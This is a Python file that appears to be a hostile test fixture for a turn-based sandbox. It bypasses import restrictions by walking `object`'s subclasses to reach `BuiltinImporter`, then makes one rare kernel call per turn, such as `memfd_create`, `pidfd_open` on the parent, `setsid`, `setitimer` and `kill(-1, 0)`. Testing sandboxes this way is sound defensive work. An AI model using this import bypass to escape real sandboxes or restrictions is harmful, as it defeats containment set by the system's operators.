"""Asks the kernel for rare services with the built-in modules of Python.

Control: entered, each turn.
"""

TURNS = 15


def sneak(name):
    """Return a built-in module, made anew, past every gate on imports."""
    todo, seen = [object], {object}
    while todo:
        kind = todo.pop()
        if kind.__name__ == "BuiltinImporter":
            loaded = kind.load_module.__func__.__globals__["sys"].modules
            kept = loaded.pop(name, None)
            try:
                return kind.load_module(name)
            finally:
                if kept is not None:
                    loaded[name] = kept
        todo += [one for one in type.__subclasses__(kind) if one not in seen]
        seen.update(type.__subclasses__(kind))


class HostileManager:
    def attack(self, *, turn):
        posix, time, signal = sneak("posix"), sneak("time"), sneak("_signal")
        attempts = [
            lambda: posix.memfd_create("mine"),
            lambda: posix.eventfd(0),
            lambda: posix.pidfd_open(posix.getppid()),
            lambda: posix.openpty(),
            lambda: posix.setsid() if posix.getsid(0) != posix.getpid() else 0,
            lambda: posix.nice(1),
            lambda: posix.sched_setaffinity(0, [min(posix.sched_getaffinity(0))]),
            lambda: posix.chdir("/"),
            lambda: posix.umask(0o77),
            lambda: posix.statvfs("/"),
            lambda: posix.readlink("/proc/self/exe"),
            lambda: posix.access("/", 0) or posix.stat("/"),
            lambda: posix.getcwd(),
            lambda: signal.setitimer(signal.ITIMER_REAL, 100),
            lambda: posix.kill(-1, 0),
        ]
        attempts[turn]()
        return {"entered": [str(turn)]}
